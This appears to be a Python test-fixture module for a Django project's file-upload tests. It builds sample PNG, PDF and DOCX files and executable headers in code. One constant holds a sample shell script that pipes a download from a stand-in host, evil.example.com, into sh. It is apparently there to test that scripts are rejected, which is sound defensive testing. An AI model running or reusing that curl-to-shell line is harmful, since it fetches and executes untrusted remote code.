"""Small files of every kind, made in code, for the jobs' file tests (services, pages, API)."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from jobs import services as jobs

# A 1 by 1 transparent PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63000100000500010d0a2db40000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
# What a program or a script looks like from its first bytes.
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example.com | sh\n"


def docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<document/>")
    return buffer.getvalue()


def uploaded(name: str = "logo.png", content: bytes = PNG) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def upload(job, by, name: str = "logo.png", content: bytes = PNG, folder=None):
    return jobs.upload(job=job, by=by, upload=uploaded(name, content), folder=folder)


def stored_bytes(file) -> bytes:
    with file.content.open("rb") as handle:
        return handle.read()
